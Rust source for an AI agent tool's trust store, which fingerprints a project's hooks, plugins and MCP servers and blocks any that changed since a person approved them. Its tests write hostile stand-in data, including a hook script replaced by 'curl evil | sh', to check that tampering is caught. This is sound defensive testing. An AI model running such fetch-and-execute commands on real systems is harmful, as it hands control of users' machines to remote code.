//! What a project's folder would run: hooks, plugins, MCP servers. It is data until a person has seen each of them, and
//! runs only as it was then: a fingerprint and the text are kept, so that a change can be shown.

use super::project::{self, FILE};
use super::{ConfigError, Paths, paths, yaml};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value as Json};
use sha2::{Digest as _, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Files of a plugin that are looked at; a larger one is never trusted.
const FILES: usize = 20_000;
/// Bytes of them.
const BYTES: u64 = 128 * 1024 * 1024;
/// Bytes of a thing's text that are kept and shown.
const SHOWN: usize = 48 * 1024;

/// What kind of thing runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    Hook,
    Plugin,
    McpServer,
}

impl Kind {
    /// For people.
    pub fn word(self) -> &'static str {
        match self {
            Kind::Hook => "hook",
            Kind::Plugin => "plugin",
            Kind::McpServer => "MCP server",
        }
    }
}

/// One thing that would run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Thing {
    pub kind: Kind,
    /// Stays the same when its content changes: `hooks.pre_tool_call.0`, `plugins.NAME`, `mcp_servers.NAME`.
    pub id: String,
    /// One line: the command, the folder.
    pub what: String,
    /// All that a person should look at, bounded.
    pub text: String,
    /// SHA-256 in hex of all that decides what runs; empty for a thing that can't be trusted.
    pub fingerprint: String,
    /// Why it can't be trusted.
    pub problem: String,
}

/// How a thing stands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Standing {
    /// As it was when the person said yes.
    Trusted,
    /// Nobody has said yes.
    New,
    /// Another text than the one that the person said yes to.
    Changed { before: String },
}

/// A project and all that it would run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Project {
    pub dir: PathBuf,
    /// Its `hermes.yaml` may be read.
    pub listed: bool,
    /// Settings of its `hermes.yaml`, in words; they count once it is listed.
    pub settings: Vec<String>,
    pub things: Vec<(Thing, Standing)>,
}

impl Project {
    /// Whether a person should look at it.
    pub fn needs_a_look(&self) -> bool {
        let holds_something = !self.settings.is_empty() || !self.things.is_empty();
        (!self.listed && holds_something)
            || self.things.iter().any(|(thing, standing)| *standing != Standing::Trusted && thing.problem.is_empty())
    }

    /// The things that may run.
    pub fn trusted(&self) -> impl Iterator<Item = &Thing> {
        self.things.iter().filter(|(_, standing)| *standing == Standing::Trusted).map(|(thing, _)| thing)
    }

    /// Why each of the others does not run, for a run without a person.
    pub fn refusals(&self) -> Vec<String> {
        let dir = self.dir.display();
        self.things
            .iter()
            .filter_map(|(thing, standing)| {
                let why = match standing {
                    Standing::Trusted => return None,
                    _ if !thing.problem.is_empty() => thing.problem.clone(),
                    Standing::New => {
                        format!("this folder is not trusted with it; look at it, then run: hermes config trust {dir}")
                    }
                    Standing::Changed { .. } => {
                        format!("it changed since it was trusted; look at it, then run: hermes config trust {dir}")
                    }
                };
                Some(format!("the project's {} {} does not run: {why}", thing.kind.word(), thing.what))
            })
            .collect()
    }
}

/// What was said yes to, by folder.
#[derive(Default, Serialize, Deserialize)]
#[serde(default)]
struct Kept {
    projects: BTreeMap<String, BTreeMap<String, Yes>>,
}

#[derive(Default, Serialize, Deserialize)]
#[serde(default)]
struct Yes {
    fingerprint: String,
    text: String,
    at: String,
}

/// The project of a working folder, as it is on disk now; `None` when there is nothing of the kind. Reads, runs nothing.
pub fn look(home: &Paths, cwd: &Path) -> Option<Project> {
    let dir = root(home, cwd)?;
    let dir = std::fs::canonicalize(&dir).unwrap_or(dir);
    let listed = project::is_trusted(home, &dir);
    let kept = kept(home);
    let yes = kept.projects.get(&*dir.to_string_lossy());
    let (settings, things) = scan(&dir);
    let things = things
        .into_iter()
        .map(|thing| {
            let standing = match yes.and_then(|yes| yes.get(&thing.id)) {
                _ if !thing.problem.is_empty() => Standing::New,
                Some(yes) if listed && yes.fingerprint == thing.fingerprint => Standing::Trusted,
                Some(yes) if yes.fingerprint != thing.fingerprint => Standing::Changed { before: yes.text.clone() },
                _ => Standing::New,
            };
            (thing, standing)
        })
        .collect();
    Some(Project { dir, listed, settings, things })
}

/// Says yes to a project as it was shown. What has changed since stays untrusted.
///
/// # Errors
/// What could not be written, with the remedy.
pub fn accept(home: &Paths, shown: &Project, now: String) -> Result<(), ConfigError> {
    project::trust(home, &shown.dir)?;
    let mut kept = kept(home);
    let entry = kept.projects.entry(shown.dir.to_string_lossy().into_owned()).or_default();
    *entry = shown
        .things
        .iter()
        .filter(|(thing, _)| thing.problem.is_empty())
        .map(|(thing, _)| {
            let yes = Yes { fingerprint: thing.fingerprint.clone(), text: thing.text.clone(), at: now.clone() };
            (thing.id.clone(), yes)
        })
        .collect();
    let text = serde_json::to_string_pretty(&kept).unwrap_or_default();
    paths::write_atomic(&home.trusted_things(), &format!("{text}\n"))
}

/// The part of a project's `hermes.yaml` under `key` whose entries are trusted: for hooks a map of lists, for
/// `mcp_servers` a map. `None` when nothing of it may run.
pub fn tree(project: &Project, key: &str) -> Option<Json> {
    let text = std::fs::read_to_string(project.dir.join(FILE)).ok()?;
    let root = yaml::parse(&text, FILE).ok()?.to_json();
    let mut kept = Map::new();
    for (name, value) in root.get(key)?.as_object()? {
        let allowed = |id: String, value: &Json| {
            // The file is read a second time here: what runs must be what was judged.
            project.trusted().any(|thing| {
                thing.id == id && thing.fingerprint == thing_of(key, &id, name, value, &project.dir).fingerprint
            })
        };
        let value = match value {
            Json::Array(items) => {
                let items = items.iter().enumerate();
                let items: Vec<Json> = items
                    .filter(|(index, item)| allowed(format!("{key}.{name}.{index}"), item))
                    .map(|(_, item)| item.clone())
                    .collect();
                (!items.is_empty()).then_some(Json::Array(items))
            }
            value => allowed(format!("{key}.{name}"), value).then(|| value.clone()),
        };
        if let Some(value) = value {
            kept.insert(name.clone(), value);
        }
    }
    (!kept.is_empty()).then_some(Json::Object(kept))
}

/// Names of the MCP servers of this folder's `hermes.yaml` that are trusted as they are. Looks at no plugin: it is asked
/// whenever the configuration is read.
pub fn servers(home: &Paths, dir: &Path) -> Vec<String> {
    let dir = std::fs::canonicalize(dir).unwrap_or_else(|_| dir.to_path_buf());
    let kept = kept(home);
    let Some(yes) = kept.projects.get(&*dir.to_string_lossy()) else { return Vec::new() };
    let Some(root) = std::fs::read_to_string(dir.join(FILE)).ok().and_then(|text| yaml::parse(&text, FILE).ok()) else {
        return Vec::new();
    };
    let servers = root.get("mcp_servers").map(yaml::Node::to_json).unwrap_or_default();
    let trusted = servers.as_object().into_iter().flatten().filter(|(name, value)| {
        let thing = thing_of("mcp_servers", &format!("mcp_servers.{name}"), name, value, &dir);
        yes.get(&thing.id).is_some_and(|yes| yes.fingerprint == thing.fingerprint)
    });
    trusted.map(|(name, _)| name.clone()).collect()
}

/// The nearest folder from `cwd` up to the root of its repository that could run something; never our own home.
fn root(home: &Paths, cwd: &Path) -> Option<PathBuf> {
    let top = cwd.ancestors().find(|dir| dir.join(".git").exists());
    let own = |dir: &Path| std::fs::canonicalize(dir.join(".hermes")).ok() == std::fs::canonicalize(&home.home).ok();
    let holds = |dir: &&Path| dir.join(FILE).is_file() || (dir.join(".hermes/plugins").is_dir() && !own(dir));
    match top {
        Some(top) => cwd.ancestors().take_while(|dir| dir.starts_with(top)).find(holds),
        None => Some(cwd).filter(holds),
    }
    .map(Path::to_path_buf)
}

fn kept(home: &Paths) -> Kept {
    let file = home.trusted_things();
    let Ok(bytes) = std::fs::read(&file) else { return Kept::default() };
    serde_json::from_slice(&bytes).unwrap_or_else(|error| {
        tracing::warn!("{} cannot be read ({error}): nothing is trusted by it", file.display());
        Kept::default()
    })
}

/// Settings in words, and things.
fn scan(dir: &Path) -> (Vec<String>, Vec<Thing>) {
    let (mut settings, mut things) = (Vec::new(), Vec::new());
    if let Ok(text) = std::fs::read_to_string(dir.join(FILE))
        && let Ok(root) = yaml::parse(&text, FILE)
    {
        for (key, node) in root.entries() {
            match (key.text.as_str(), node.to_json()) {
                (section @ ("hooks" | "mcp_servers"), Json::Object(entries)) => {
                    for (name, value) in entries {
                        match value {
                            Json::Array(items) => {
                                let items = items.iter().enumerate();
                                things.extend(items.map(|(index, item)| {
                                    thing_of(section, &format!("{section}.{name}.{index}"), &name, item, dir)
                                }));
                            }
                            value => things.push(thing_of(section, &format!("{section}.{name}"), &name, &value, dir)),
                        }
                    }
                }
                (name, value) => settings.push(format!("{name}: {value}")),
            }
        }
    }
    let mut plugins: Vec<PathBuf> = std::fs::read_dir(dir.join(".hermes/plugins"))
        .into_iter()
        .flatten()
        .filter_map(|entry| Some(entry.ok()?.path()))
        .filter(|path| path.is_dir())
        .collect();
    plugins.sort();
    things.extend(plugins.iter().map(|path| plugin(path)));
    (settings, things)
}

/// A hook or a server: what stands in the file, and the scripts of the project that it names.
fn thing_of(section: &str, id: &str, name: &str, value: &Json, dir: &Path) -> Thing {
    let kind = if section == "hooks" { Kind::Hook } else { Kind::McpServer };
    let mut text = serde_json::to_string_pretty(value).unwrap_or_default();
    let mut hash = Sha256::new();
    hash.update(id);
    hash.update(value.to_string());
    let mut words = Vec::new();
    strings(value, &mut words);
    for word in &words {
        for part in word.split_whitespace().map(|part| part.trim_matches(['"', '\''])) {
            let path = dir.join(part);
            let Ok(real) = std::fs::canonicalize(&path) else { continue };
            if real.starts_with(dir) && real.is_file() && !part.is_empty() {
                let bytes = std::fs::read(&real).unwrap_or_default();
                hash.update(part);
                hash.update(Sha256::digest(&bytes));
                text.push_str(&format!("\n\n--- {part}\n{}", String::from_utf8_lossy(&bytes)));
            }
        }
    }
    let command = value.get("command").and_then(Json::as_str).or_else(|| value.get("url").and_then(Json::as_str));
    let what = match (kind, command.or_else(|| value.as_str())) {
        (Kind::Hook, Some(command)) => format!("{name}: {command}"),
        (_, Some(command)) => format!("{name} ({command})"),
        (_, None) => name.to_owned(),
    };
    let fingerprint = hash.finalize().iter().map(|byte| format!("{byte:02x}")).collect();
    Thing { kind, id: id.to_owned(), what, text: bounded(text), fingerprint, problem: String::new() }
}

fn strings(value: &Json, out: &mut Vec<String>) {
    match value {
        Json::String(text) => out.push(text.clone()),
        Json::Array(items) => items.iter().for_each(|item| strings(item, out)),
        Json::Object(fields) => fields.values().for_each(|item| strings(item, out)),
        Json::Null | Json::Bool(_) | Json::Number(_) => {}
    }
}

/// A plugin's folder: every file of it decides.
fn plugin(dir: &Path) -> Thing {
    let name = dir.file_name().unwrap_or_default().to_string_lossy().into_owned();
    let thing = |text: String, fingerprint: String, problem: String| Thing {
        kind: Kind::Plugin,
        id: format!("plugins.{name}"),
        what: format!("{name} (.hermes/plugins/{name})"),
        text: bounded(text),
        fingerprint,
        problem,
    };
    match folder(dir) {
        Ok((text, fingerprint)) => thing(text, fingerprint, String::new()),
        Err(problem) => thing(String::new(), String::new(), problem),
    }
}

/// Text and fingerprint of all files of a folder.
fn folder(dir: &Path) -> Result<(String, String), String> {
    let (mut files, mut folders, mut bytes) = (Vec::new(), vec![dir.to_path_buf()], 0);
    while let Some(folder) = folders.pop() {
        let entries =
            std::fs::read_dir(&folder).map_err(|error| format!("{} cannot be read: {error}", folder.display()))?;
        for entry in entries {
            let path = entry.map_err(|error| format!("{} cannot be read: {error}", folder.display()))?.path();
            let meta =
                path.symlink_metadata().map_err(|error| format!("{} cannot be read: {error}", path.display()))?;
            if meta.is_symlink() {
                return Err(format!("{} is a link: what it leads to could change unseen", path.display()));
            } else if meta.is_dir() {
                folders.push(path);
            } else {
                bytes += meta.len();
                files.push(path);
            }
            if files.len() > FILES || bytes > BYTES {
                return Err("it is too large to be looked at; install it into your own plugins folder".into());
            }
        }
    }
    files.sort();
    // What decides is shown first, the rest as far as there is room.
    files.sort_by_key(|path| path.parent() != Some(dir));
    let (mut hash, mut text) = (Sha256::new(), String::new());
    for path in &files {
        let bytes = std::fs::read(path).map_err(|error| format!("{} cannot be read: {error}", path.display()))?;
        let shown = path.strip_prefix(dir).unwrap_or(path).to_string_lossy().into_owned();
        #[cfg(unix)]
        let mode = std::fs::metadata(path)
            .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o111)
            .unwrap_or(0);
        hash.update(format!("{shown}\0{mode}\0{}\0", bytes.len()));
        hash.update(&bytes);
        if text.len() < SHOWN {
            let body = std::str::from_utf8(&bytes)
                .map_or_else(|_| format!("({} bytes, not text)", bytes.len()), str::to_owned);
            text.push_str(&format!("--- {shown}\n{}\n", body.trim_end()));
        }
    }
    Ok((text, hash.finalize().iter().map(|byte| format!("{byte:02x}")).collect()))
}

fn bounded(mut text: String) -> String {
    if text.len() > SHOWN {
        let mut end = SHOWN;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        text.truncate(end);
        text.push_str("\n… the rest is not shown; a change in it counts all the same");
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Place {
        _root: tempfile::TempDir,
        home: Paths,
        dir: PathBuf,
    }

    fn place(yaml: &str) -> Place {
        let root = tempfile::tempdir().unwrap();
        let (home, dir) = (Paths::at(root.path().join("home")), root.path().join("project"));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(FILE), yaml).unwrap();
        Place { _root: root, home, dir: std::fs::canonicalize(&dir).unwrap() }
    }

    fn standings(place: &Place) -> Vec<(String, &'static str)> {
        let project = look(&place.home, &place.dir).unwrap();
        let word = |standing: &Standing| match standing {
            Standing::Trusted => "trusted",
            Standing::New => "new",
            Standing::Changed { .. } => "changed",
        };
        project.things.iter().map(|(thing, standing)| (thing.id.clone(), word(standing))).collect()
    }

    const YAML: &str =
        "agent:\n  max_turns: 5\nhooks:\n  pre_tool_call:\n  - command: sh check.sh\n  - command: echo hi\n";

    #[test]
    fn things_are_trusted_one_by_one_and_as_they_were() {
        let place = place(YAML);
        std::fs::write(place.dir.join("check.sh"), "exit 0\n").unwrap();
        std::fs::create_dir_all(place.dir.join(".hermes/plugins/p")).unwrap();
        std::fs::write(place.dir.join(".hermes/plugins/p/plugin.yaml"), "name: p\n").unwrap();
        let all = |words: [&'static str; 3]| {
            let ids = ["hooks.pre_tool_call.0", "hooks.pre_tool_call.1", "plugins.p"];
            ids.iter().map(|id| (*id).to_owned()).zip(words).collect::<Vec<_>>()
        };
        assert_eq!(standings(&place), all(["new", "new", "new"]));
        let shown = look(&place.home, &place.dir).unwrap();
        assert!(shown.needs_a_look() && tree(&shown, "hooks").is_none());
        assert_eq!(shown.settings, [r#"agent: {"max_turns":5}"#]);
        // What changes between the look and the yes stays untrusted.
        std::fs::write(place.dir.join(".hermes/plugins/p/run.sh"), "evil\n").unwrap();
        accept(&place.home, &shown, "now".into()).unwrap();
        assert_eq!(standings(&place), all(["trusted", "trusted", "changed"]));
        let now = look(&place.home, &place.dir).unwrap();
        assert!(now.needs_a_look());
        assert_eq!(tree(&now, "hooks").unwrap()["pre_tool_call"].as_array().unwrap().len(), 2);
        accept(&place.home, &now, "now".into()).unwrap();
        assert!(!look(&place.home, &place.dir).unwrap().needs_a_look());
        // A script that a hook names counts as a part of it.
        std::fs::write(place.dir.join("check.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(standings(&place), all(["changed", "trusted", "trusted"]));
        let now = look(&place.home, &place.dir).unwrap();
        assert_eq!(tree(&now, "hooks").unwrap()["pre_tool_call"].as_array().unwrap().len(), 1);
        let Standing::Changed { before } = &now.things[0].1 else { panic!("not changed") };
        assert!(before.contains("exit 0") && now.things[0].0.text.contains("curl evil"));
        assert!(now.refusals()[0].contains("changed since it was trusted"));
    }

    #[test]
    fn a_listed_folder_alone_runs_nothing() {
        let place = place(YAML);
        project::trust(&place.home, &place.dir).unwrap();
        let project = look(&place.home, &place.dir).unwrap();
        assert!(project.listed && project.needs_a_look() && project.trusted().count() == 0);
        assert_eq!(project.refusals().len(), 2);
    }

    #[test]
    fn links_and_our_own_home_are_no_project_things() {
        let place = place("");
        std::fs::create_dir_all(place.dir.join(".hermes/plugins/p")).unwrap();
        std::os::unix::fs::symlink("/bin/sh", place.dir.join(".hermes/plugins/p/run")).unwrap();
        let project = look(&place.home, &place.dir).unwrap();
        assert!(project.things[0].0.problem.contains("is a link"), "{project:?}");
        accept(&place.home, &project, "now".into()).unwrap();
        assert_eq!(look(&place.home, &place.dir).unwrap().trusted().count(), 0);
        let own = Paths::at(place.dir.join(".hermes"));
        std::fs::remove_file(place.dir.join(FILE)).unwrap();
        assert_eq!(look(&own, &place.dir), None);
        assert_eq!(look(&place.home, &place.home.home), None);
    }

    #[test]
    fn servers_are_things_too() {
        let place = place("mcp_servers:\n  git:\n    command: uvx\n    args: [mcp-server-git]\n");
        let project = look(&place.home, &place.dir).unwrap();
        let (thing, _) = &project.things[0];
        assert_eq!((thing.id.as_str(), thing.what.as_str()), ("mcp_servers.git", "git (uvx)"));
        accept(&place.home, &project, "now".into()).unwrap();
        let project = look(&place.home, &place.dir).unwrap();
        assert_eq!(tree(&project, "mcp_servers").unwrap()["git"]["command"], "uvx");
        assert_eq!(servers(&place.home, &place.dir), ["git"]);
        let sources = |cwd: &Path| super::super::Sources {
            paths: place.home.clone(),
            cwd: Some(cwd.to_path_buf()),
            env: BTreeMap::new(),
            overrides: Vec::new(),
        };
        let loaded = super::super::load(&sources(&place.dir));
        assert_eq!(loaded.config.mcp_servers["git"].command, "uvx");
        std::fs::write(place.dir.join(FILE), "mcp_servers:\n  git:\n    command: evil\n").unwrap();
        assert!(super::super::load(&sources(&place.dir)).config.mcp_servers.is_empty());
    }
}
